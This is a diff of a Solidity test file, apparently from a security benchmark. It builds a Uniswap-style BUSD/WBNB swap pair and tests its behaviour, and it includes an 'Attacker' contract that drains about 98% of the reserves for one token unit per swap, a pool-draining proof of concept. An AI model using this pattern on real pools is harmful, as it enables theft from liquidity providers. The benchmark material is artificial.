@@ -1,17 +1,22 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.5.17;
 
-import "./RopewalkPair.sol";
+import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
+import "./SwapPair.sol";
 
 // assay-canary-879a64d5-3af3-4ba5-8f02-f5bfe6e6dd72
 
 interface Vm {
+    function addr(uint256 key) external returns (address);
+    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
+    function warp(uint256 time) external;
     function prank(address sender) external;
+    function expectRevert() external;
     function expectRevert(bytes calldata reason) external;
 }
 
-/// A yarn that anybody may set: it comes and goes, moves or does not, and calls the pair back while it moves.
-contract LooseYarn {
+/// A token that anybody may set: it comes and goes, moves or does not, and calls the pair back while it moves, which has to fail.
+contract LooseToken {
     mapping(address => uint256) public balanceOf;
     bool private stuck;
     address private called;
@@ -36,199 +41,284 @@ contract LooseYarn {
         balanceOf[to] += amount;
         if (called != address(0)) {
             (bool ok, bytes memory answer) = called.call(message);
-            if (!ok) {
-                assembly {
-                    revert(add(answer, 32), mload(answer))
-                }
-            }
+            bytes memory told = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
+            require(!ok && keccak256(answer) == keccak256(told), "let through");
         }
         return true;
     }
 }
 
-contract Yarn {
+contract Token is ERC20 {
     address private minter = msg.sender;
-    using Num for uint256;
-    mapping(address => uint256) public balanceOf;
 
     function mint(address to, uint256 amount) external {
         require(msg.sender == minter, "minter only");
-        balanceOf[to] = balanceOf[to].plus(amount);
+        _mint(to, amount);
+    }
+}
+
+/// Takes tokens first and pays for them when it is called.
+contract Taker is ISwapCallee {
+    Token private paid;
+
+    constructor(Token paid_) public {
+        paid = paid_;
     }
 
-    function transfer(address to, uint256 amount) external returns (bool) {
-        balanceOf[msg.sender] = balanceOf[msg.sender].minus(amount);
-        balanceOf[to] = balanceOf[to].plus(amount);
-        return true;
+    function onSwap(address sender, uint256, uint256, bytes calldata data) external {
+        require(sender != address(0), "by somebody");
+        paid.transfer(msg.sender, abi.decode(data, (uint256)));
     }
 }
 
 contract Proof {
     Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
-    address constant SPINNER = address(0x5919);
+    address constant PROVIDER = address(0x5919);
+    address constant PROTOCOL = address(0x960);
+    uint256 constant KEY = 0xA11CE;
     uint256 constant SIDE = 25000000 ether;
 
-    Yarn internal hemp;
-    Yarn internal flax;
-    RopewalkPair internal pair;
+    Token internal busd;
+    Token internal wbnb;
+    PairSettings internal settings;
+    SwapPair internal pair;
     Attacker internal thief;
 
     function setUp() public {
-        hemp = new Yarn();
-        flax = new Yarn();
-        pair = new RopewalkPair(IYarn(address(hemp)), IYarn(address(flax)));
-        hemp.mint(address(pair), SIDE);
-        flax.mint(address(pair), SIDE);
-        pair.join(SPINNER);
-        thief = new Attacker(pair, hemp, flax);
-        hemp.mint(address(thief), 100);
-        flax.mint(address(thief), 100);
+        vm.warp(1619500000);
+        busd = new Token();
+        wbnb = new Token();
+        settings = new PairSettings();
+        pair = new SwapPair(settings, busd, wbnb, 56);
+        busd.mint(address(pair), SIDE);
+        wbnb.mint(address(pair), SIDE);
+        pair.mint(PROVIDER);
+        thief = new Attacker(pair, busd, wbnb);
+        busd.mint(address(thief), 100);
+        wbnb.mint(address(thief), 100);
     }
 
     function test_Regular() public {
-        require(pair.balanceOf(SPINNER) == SIDE - 1000 && pair.totalSupply() == SIDE, "joined");
-        uint256 out = pair.quote(1000 ether, true);
+        require(pair.balanceOf(PROVIDER) == SIDE - 1000 && pair.totalSupply() == SIDE, "added");
+        vm.warp(1619500000 + 100);
+        (uint256 sum0, uint256 sum1) = pair.cumulativePrices();
+        require(sum0 == 100 << 112 && sum1 == 100 << 112, "cumulative prices");
+        uint256 out = pair.getAmountOut(1000 ether, true);
         require(out > 998 ether && out < 999 ether, "quote");
-        hemp.mint(address(pair), 1000 ether);
-        pair.trade(0, out, address(this));
-        require(flax.balanceOf(address(this)) == out && pair.hempKept() == SIDE + 1000 ether, "traded");
+        uint256 asked = pair.getAmountIn(out, true);
+        require(asked <= 1000 ether + 1 && asked > 999 ether, "quote of the input");
+        busd.mint(address(pair), 1000 ether);
+        pair.swap(0, out, address(this), "");
+        require(wbnb.balanceOf(address(this)) == out && pair.reserve0() == SIDE + 1000 ether, "traded");
+        require(pair.price0Cumulative() == sum0 && pair.lastUpdate() == now, "accumulated");
 
-        (bool ok, ) = address(pair).call(abi.encodeWithSignature("trade(uint256,uint256,address)", 1, 0, address(this)));
-        require(!ok, "nothing paid");
-        uint256 kept = pair.flaxKept();
-        hemp.mint(address(pair), 1 ether);
-        (ok, ) = address(pair).call(abi.encodeWithSignature("trade(uint256,uint256,address)", 0, kept, address(this)));
-        require(!ok, "all of it");
-        (ok, ) = address(pair).call(
-            abi.encodeWithSignature("trade(uint256,uint256,address)", 0, kept - 1 ether, address(this))
-        );
-        require(!ok, "nearly all of it");
-        pair.level();
-        require(pair.hempKept() == SIDE + 1001 ether, "levelled");
+        busd.mint(address(pair), 1 ether);
+        pair.sync();
+        require(pair.reserve0() == SIDE + 1001 ether, "synced");
+        busd.mint(address(pair), 2 ether);
+        pair.skim(address(this));
+        require(busd.balanceOf(address(this)) == 2 ether && pair.reserve0() == SIDE + 1001 ether, "skimmed");
 
-        vm.prank(SPINNER);
+        vm.prank(PROVIDER);
         pair.transfer(address(pair), SIDE / 10);
-        pair.leave(SPINNER);
-        require(hemp.balanceOf(SPINNER) == (SIDE + 1001 ether) / 10, "left");
-        require(flax.balanceOf(SPINNER) == (SIDE - out) / 10, "left with flax");
+        pair.burn(PROVIDER);
+        require(busd.balanceOf(PROVIDER) == (SIDE + 1001 ether) / 10, "removed");
+        require(wbnb.balanceOf(PROVIDER) == (SIDE - out) / 10, "removed of the other");
 
-        hemp.mint(address(pair), pair.hempKept() / 100);
-        flax.mint(address(pair), pair.flaxKept() / 100);
+        settings.setFeeTo(PROTOCOL);
+        add();
+        require(pair.lastProduct() == pair.reserve0() * pair.reserve1(), "remembered");
+        Taker taker = new Taker(busd);
+        busd.mint(address(taker), 2000000 ether);
+        out = pair.getAmountOut(2000000 ether, true);
+        pair.swap(0, out, address(taker), abi.encode(uint256(2000000 ether)));
+        require(wbnb.balanceOf(address(taker)) == out, "paid when called");
+        add();
+        require(pair.balanceOf(PROTOCOL) > 350 ether && pair.balanceOf(PROTOCOL) < 450 ether, "a quarter");
+        settings.setFeeTo(address(0));
+        add();
+        require(pair.lastProduct() == 0, "forgotten");
+        allowances();
+
+        settings.setPaused(true);
+        settings.setPaused(false);
+        settings.transferOwnership(PROVIDER);
+        vm.prank(PROVIDER);
+        settings.renounceOwnership();
+    }
+
+    /// A hundredth more of both tokens.
+    function add() private {
+        busd.mint(address(pair), pair.reserve0() / 100);
+        wbnb.mint(address(pair), pair.reserve1() / 100);
         uint256 supply = pair.totalSupply();
-        require(pair.join(address(this)) <= supply / 100, "joined for a hundredth");
+        require(pair.mint(address(this)) <= supply / 100 + 10 ether, "added a hundredth");
+    }
 
-        pair.approve(SPINNER, 2);
-        vm.prank(SPINNER);
-        pair.transferFrom(address(this), SPINNER, 2);
-        require(pair.balanceOf(SPINNER) >= 2 && pair.allowance(address(this), SPINNER) == 0, "allowance");
+    function allowances() private {
+        pair.approve(PROVIDER, 2);
+        pair.increaseAllowance(PROVIDER, 2);
+        pair.decreaseAllowance(PROVIDER, 2);
+        vm.prank(PROVIDER);
+        pair.transferFrom(address(this), PROVIDER, 2);
+        require(pair.allowance(address(this), PROVIDER) == 0, "allowance");
+        address alice = vm.addr(KEY);
+        pair.permit(alice, PROVIDER, 5, now, signature(alice, 5, 0));
+        require(pair.allowance(alice, PROVIDER) == 5 && pair.nonces(alice) == 1, "by signature");
+    }
+
+    function signature(address owner, uint256 value, uint256 nonce) private returns (bytes memory) {
+        bytes32 content = keccak256(abi.encode(pair.PERMIT_TYPEHASH(), owner, PROVIDER, value, nonce, now));
+        bytes32 digest = keccak256(abi.encodePacked("\x19\x01", pair.DOMAIN_SEPARATOR(), content));
+        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, digest);
+        return abi.encodePacked(r, s, v);
     }
 
     // What is refused, each from the state after setUp().
 
-    function test_RefusesOneYarnForBoth() public {
-        vm.expectRevert("Ropewalk: same");
-        new RopewalkPair(IYarn(address(hemp)), IYarn(address(hemp)));
+    function test_RefusesSetups() public {
+        vm.expectRevert("same token");
+        new SwapPair(settings, busd, busd, 56);
+        vm.expectRevert("no settings");
+        new SwapPair(PairSettings(0), busd, wbnb, 56);
     }
 
-    function test_RefusesNumbersBeyondTheirRange() public {
-        vm.expectRevert("Num: minus");
-        pair.transfer(SPINNER, 1);
-        vm.expectRevert("Num: times");
-        pair.quote(uint256(-1), true);
-
-        (RopewalkPair other, LooseYarn first, LooseYarn second) = loose();
-        require(new RopewalkPair(IYarn(address(first)), IYarn(address(second))).quote(1, true) == 0, "empty, no price");
-        first.put(address(other), uint256(-1) / 10000);
-        second.put(address(other), 1);
-        other.level();
-        vm.expectRevert("Num: plus");
-        other.quote(1 ether, true);
+    function test_RefusesStrangers() public {
+        vm.prank(PROVIDER);
+        vm.expectRevert("Ownable: caller is not the owner");
+        settings.setFeeTo(PROVIDER);
+        vm.prank(PROVIDER);
+        vm.expectRevert("Ownable: caller is not the owner");
+        settings.setPaused(true);
     }
 
-    function test_RefusesToJoinWithNothing() public {
-        vm.expectRevert("Ropewalk: nothing joined");
-        pair.join(address(this));
+    function test_RefusesWhilePaused() public {
+        busd.mint(address(pair), 1 ether);
+        wbnb.mint(address(pair), 1 ether);
+        settings.setPaused(true);
+        vm.expectRevert("paused");
+        pair.mint(address(this));
+        vm.expectRevert("paused");
+        pair.swap(0, 0.5 ether, address(this), "");
     }
 
-    function test_RefusesToLeaveWithNothing() public {
-        vm.expectRevert("Ropewalk: nothing left");
-        pair.leave(address(this));
+    function test_RefusesSignatures() public {
+        address alice = vm.addr(KEY);
+        bytes memory good = signature(alice, 5, 0);
+        vm.expectRevert("bad signature");
+        pair.permit(alice, PROVIDER, 6, now, good);
+        vm.expectRevert("bad signature");
+        pair.permit(address(0), PROVIDER, 5, now, "");
+        vm.expectRevert("expired");
+        pair.permit(alice, PROVIDER, 5, now - 1, good);
+        pair.permit(alice, PROVIDER, 5, now, good);
+        vm.expectRevert("bad signature");
+        pair.permit(alice, PROVIDER, 5, now, good);
     }
 
-    function test_RefusesToLeaveWithoutHemp() public {
-        (RopewalkPair other, LooseYarn first, ) = loose();
+    function test_RefusesToAddNothing() public {
+        vm.expectRevert("nothing added");
+        pair.mint(address(this));
+    }
+
+    function test_RefusesToRemoveNothing() public {
+        vm.expectRevert("nothing removed");
+        pair.burn(address(this));
+    }
+
+    function test_RefusesToRemoveOneSide() public {
+        (SwapPair other, LooseToken first, LooseToken second) = loose();
         other.transfer(address(other), 1 ether);
         first.put(address(other), 0);
-        vm.expectRevert("Ropewalk: nothing left");
-        other.leave(address(this));
-    }
-
-    function test_RefusesToLeaveWithoutFlax() public {
-        (RopewalkPair other, , LooseYarn second) = loose();
-        other.transfer(address(other), 1 ether);
+        vm.expectRevert("nothing removed");
+        other.burn(address(this));
+        first.put(address(other), 10 ether);
         second.put(address(other), 0);
-        vm.expectRevert("Ropewalk: nothing left");
-        other.leave(address(this));
+        vm.expectRevert("nothing removed");
+        other.burn(address(this));
     }
 
     function test_RefusesTradesForNothing() public {
-        vm.expectRevert("Ropewalk: nothing asked");
-        pair.trade(0, 0, address(this));
+        vm.expectRevert("no output");
+        pair.swap(0, 0, address(this), "");
+        vm.expectRevert("no input");
+        pair.swap(1, 0, address(this), "");
     }
 
     function test_RefusesTradesForAllOfASide() public {
-        vm.expectRevert("Ropewalk: too much asked");
-        pair.trade(SIDE, 1, address(this));
-        vm.expectRevert("Ropewalk: too much asked");
-        pair.trade(1, SIDE, address(this));
+        vm.expectRevert("no liquidity");
+        pair.swap(SIDE, 1, address(this), "");
+        vm.expectRevert("no liquidity");
+        pair.swap(1, SIDE, address(this), "");
     }
 
-    function test_RefusesToPayTheYarnsThemselves() public {
-        vm.expectRevert("Ropewalk: to");
-        pair.trade(1, 0, address(hemp));
-        vm.expectRevert("Ropewalk: to");
-        pair.trade(1, 0, address(flax));
+    function test_RefusesTradesForNearlyAll() public {
+        busd.mint(address(pair), 1 ether);
+        vm.expectRevert("product");
+        pair.swap(0, SIDE - 1 ether, address(this), "");
     }
 
-    function test_RefusesYarnThatDoesNotMove() public {
-        (RopewalkPair other, LooseYarn first, LooseYarn second) = loose();
+    function test_RefusesToPayTheTokensThemselves() public {
+        vm.expectRevert("bad recipient");
+        pair.swap(1, 0, address(busd), "");
+        vm.expectRevert("bad recipient");
+        pair.swap(1, 0, address(wbnb), "");
+    }
+
+    function test_RefusesTokensThatDoNotMove() public {
+        (SwapPair other, LooseToken first, LooseToken second) = loose();
         first.stick();
-        vm.expectRevert("Ropewalk: hemp");
-        other.trade(1, 0, address(this));
+        vm.expectRevert();
+        other.swap(1, 0, address(this), "");
         second.stick();
-        vm.expectRevert("Ropewalk: flax");
-        other.trade(0, 1, address(this));
+        vm.expectRevert();
+        other.swap(0, 1, address(this), "");
     }
 
-    function test_RefusesASecondCallWhileYarnMoves() public {
-        (RopewalkPair other, LooseYarn first, ) = loose();
-        bytes[4] memory calls = [
-            abi.encodeWithSignature("join(address)", this),
-            abi.encodeWithSignature("leave(address)", this),
-            abi.encodeWithSignature("trade(uint256,uint256,address)", 0, 1, this),
-            abi.encodeWithSignature("level()")
+    function test_RefusesTooMuch() public {
+        (SwapPair other, LooseToken first, LooseToken second) = loose();
+        first.put(address(other), uint256(2**112));
+        vm.expectRevert("too much");
+        other.sync();
+        first.put(address(other), 10 ether);
+        second.put(address(other), uint256(2**112));
+        vm.expectRevert("too much");
+        other.sync();
+        second.put(address(other), 1 ether);
+        vm.expectRevert("SafeMath: subtraction overflow");
+        other.skim(address(this));
+    }
+
+    function test_RefusesASecondCallWhileTokensMove() public {
+        (SwapPair other, LooseToken first, ) = loose();
+        bytes[5] memory calls = [
+            abi.encodeWithSignature("mint(address)", this),
+            abi.encodeWithSignature("burn(address)", this),
+            abi.encodeWithSignature("swap(uint256,uint256,address,bytes)", 0, 1, this, ""),
+            abi.encodeWithSignature("skim(address)", this),
+            abi.encodeWithSignature("sync()")
         ];
-        for (uint256 i = 0; i < 4; i++) {
+        for (uint256 i = 0; i < 5; i++) {
             first.callBack(address(other), calls[i]);
-            vm.expectRevert("Ropewalk: busy");
-            other.trade(1, 0, address(this));
+            vm.expectRevert("no input");
+            other.swap(1, 0, address(this), "");
         }
     }
 
-    /// A pair of two loose yarns, ten of each; its strands are this contract's.
-    function loose() private returns (RopewalkPair other, LooseYarn first, LooseYarn second) {
-        first = new LooseYarn();
-        second = new LooseYarn();
-        other = new RopewalkPair(IYarn(address(first)), IYarn(address(second)));
+    /// A pair of two loose tokens, ten of each; its liquidity is this contract's.
+    function loose() private returns (SwapPair other, LooseToken first, LooseToken second) {
+        first = new LooseToken();
+        second = new LooseToken();
+        other = new SwapPair(settings, IERC20(address(first)), IERC20(address(second)), 56);
         first.put(address(other), 10 ether);
         second.put(address(other), 10 ether);
-        other.join(address(this));
+        other.mint(address(this));
     }
 
-    /// What the spinner's strands stand for; either yarn is worth a dollar.
+    /// What the provider's liquidity stands for; either token is worth a dollar.
     function recoverable() public view returns (uint256) {
-        uint256 all = hemp.balanceOf(address(pair)) + flax.balanceOf(address(pair));
-        return all * pair.balanceOf(SPINNER) / pair.totalSupply();
+        uint256 all = busd.balanceOf(address(pair)) + wbnb.balanceOf(address(pair));
+        return all * pair.balanceOf(PROVIDER) / pair.totalSupply();
     }
 
     function exploit() public {
@@ -252,22 +342,22 @@ contract Proof {
 
 /// Pays one unit and takes 98 of 100, from one side and then from the other.
 contract Attacker {
-    RopewalkPair internal pair;
-    Yarn internal hemp;
-    Yarn internal flax;
+    SwapPair internal pair;
+    Token internal busd;
+    Token internal wbnb;
 
-    constructor(RopewalkPair pair_, Yarn hemp_, Yarn flax_) public {
+    constructor(SwapPair pair_, Token busd_, Token wbnb_) public {
         pair = pair_;
-        hemp = hemp_;
-        flax = flax_;
+        busd = busd_;
+        wbnb = wbnb_;
     }
 
     function run() external {
         for (uint256 i = 0; i < 3; i++) {
-            hemp.transfer(address(pair), 1);
-            pair.trade(0, pair.flaxKept() / 100 * 98, address(this));
-            flax.transfer(address(pair), 1);
-            pair.trade(pair.hempKept() / 100 * 98, 0, address(this));
+            busd.transfer(address(pair), 1);
+            pair.swap(0, pair.reserve1() / 100 * 98, address(this), "");
+            wbnb.transfer(address(pair), 1);
+            pair.swap(pair.reserve0() / 100 * 98, 0, address(this), "");
         }
     }
 }
